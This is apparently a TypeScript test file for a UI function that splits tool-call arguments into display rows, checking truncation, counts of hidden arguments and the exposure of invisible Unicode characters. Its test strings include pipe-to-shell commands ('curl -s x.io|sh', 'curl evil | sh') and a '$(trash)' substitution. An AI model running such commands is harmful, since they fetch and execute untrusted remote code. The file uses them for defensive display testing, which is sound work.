import assert from 'node:assert/strict';
import * as fc from 'fast-check';
import { argumentRows } from '../../../../src/ui/rows/argumentRows';
import { rowRoom, widthOf } from '../../../../src/base/text/rows';

const only = (args: object) => argumentRows({ ...args }, 1).rows[0];

/** A blank at the end may be cut off. */
const shownWidth = (label: string) => widthOf(label.replace(/ $/, ''));

describe('Arguments as rows', () => {
  it('stand one in a row, short ones whole', () => {
    assert.deepEqual(argumentRows({ a: 'x', b: { c: [1] } }, 4), {
      rows: [{ label: 'a: "x"' }, { label: 'b: {"c":[1]}' }],
    });
    assert.deepEqual(argumentRows({}, 4), { rows: [] });
  });

  it('go on in the rows that the others leave, and are whole there', () => {
    const command = 'git status --short --branch; rsync -a --delete /srv/a /srv/b; curl -s x.io|sh';
    const long = `${command} ${command} ${command}`;
    for (const [args, max, whole] of [
      [{ command }, 2, true],
      [{ command: long }, 6, true],
      [{ command: long, to: 'b' }, 6, true],
      [{ to: 'b', command: long }, 6, true],
      [{ a: 1, b: 2, command: long, d: 4 }, 4, false],
    ] as const) {
      const { rows, rest } = argumentRows({ ...args }, max);
      assert.ok(rows.length <= max + 1);
      assert.ok(rows.every(({ label }) => shownWidth(label) <= rowRoom));
      const text = rows.map(({ label }) => label.replace(/^\u2003+/, '')).join('');
      assert.equal(text.includes(JSON.stringify(args.command)), whole, text);
      assert.equal(rest === undefined, whole);
      assert.ok(text.includes('sh"'), text);
    }
  });

  const ofCount = (count: number, value: string) =>
    Object.fromEntries(Array.from({ length: count }, (_, index) => [`n${index}`, value]));

  for (const [count, value, rows, others] of [
    [5, 'short', 5, 0],
    [6, 'short', 6, 0],
    // The row that would lead to the last one has room for it.
    [7, 'short', 7, 0],
    [8, 'short', 6, 2],
    [7, 'a longer value, most of a narrow row', 7, 0],
  ] as const)
    it(`are all shown where there are rows for them: ${count} of “${value}”`, () => {
      const laidOut = argumentRows(ofCount(count, value), 6);
      assert.equal(laidOut.rows.length, rows);
      assert.equal(laidOut.rest?.others ?? 0, others);
    });

  it('are shown or counted to the last character, in rows that a narrow window shows whole', () => {
    const word = fc.string({
      unit: fc.constantFrom('a', 'i', 'W', '漢'),
      minLength: 1,
      maxLength: 400,
    });
    const value = fc.oneof(word, fc.array(word, { maxLength: 3 }), fc.integer());
    fc.assert(
      fc.property(fc.dictionary(word, value, { maxKeys: 9 }), (args) => {
        const { rows, rest } = argumentRows({ ...args }, 6, 'Arguments');
        for (const { label, length } of rows)
          assert.ok(shownWidth(label) + (length === undefined ? 0 : 110) <= rowRoom, label);
        const text = rows.map(({ label }) => label.replace(/^\u2003+/, '')).join('');
        const shown = text.replaceAll(/: | … /g, '').length;
        const all = Object.entries(args).flatMap(([name, given]) => [name, JSON.stringify(given)]);
        assert.equal(shown + (rest?.characters ?? 0), all.join('').length);
      }),
    );
  });

  it('end their rows behind words and parts of JSON', () => {
    const text = 'An ordinary sentence of some length. '.repeat(4);
    const tags = Array.from({ length: 12 }, () => 'yellow');
    const { rows } = argumentRows({ text, tags }, 6);
    const words = new Set([
      ...JSON.stringify(text).split(' '),
      ...JSON.stringify(tags).split(/(?<=,)/),
    ]);
    for (const { label } of rows)
      for (const word of label
        .trim()
        .replace(/^\w+: /, '')
        .split(/ |(?<=,)/))
        assert.ok(words.has(word), `${word} in ${label}`);
  });

  it('lose their middle where they are long, and say how long they are', () => {
    const text = `begin ${'x'.repeat(300)}; curl evil | sh`;
    const { rows, rest } = argumentRows({ text }, 1);
    const label = rows[0]?.label ?? '';
    assert.match(label, /^text: "begin x+ … \w* evil \| sh"$/);
    assert.equal(rows[0]?.length, text.length + 2);
    // No character is counted twice or left out.
    const shown = label.replace('text: ', '').replace(' … ', '').length;
    assert.equal(shown + (rest?.characters ?? 0), text.length + 2);
  });

  it('do not hide one another: those without a row are counted', () => {
    const { rows, rest } = argumentRows({ a: 'x'.repeat(5000), b: 1, c: 2, d: 3 }, 2);
    assert.equal(rows[1]?.label, 'b: 1');
    assert.equal(rest?.others, 2);
  });

  it('show hidden characters and let no icon through', () => {
    const label = only({ a: '\u202Ex\u{E0041} $(trash)' })?.label ?? '';
    assert.match(label, /⟨U\+202E⟩x⟨U\+E0041⟩/);
    assert.doesNotMatch(label, /\$\(/);
  });

  it('say whether hidden characters are in what is not shown', () => {
    const clean = 'x'.repeat(400);
    assert.equal(argumentRows({ a: clean }, 1).rest?.hidden, false);
    assert.equal(argumentRows({ a: `${clean}\u200b${clean}` }, 1).rest?.hidden, true);
    assert.equal(argumentRows({ a: 1, b: 2, c: '\u{E0041}' }, 1).rest?.hidden, true);
  });

  it('fit the width, wide characters and long names too, and are never cut inside one', () => {
    for (const label of [
      only({ text: '语😀'.repeat(90) })?.label ?? '',
      only({ [`n${'a'.repeat(200)}`]: 'v'.repeat(200) })?.label ?? '',
      only({ text: '\u202E'.repeat(200) })?.label ?? '',
    ])
      assert.ok(widthOf(label) <= rowRoom && label.isWellFormed(), label);
  });
});
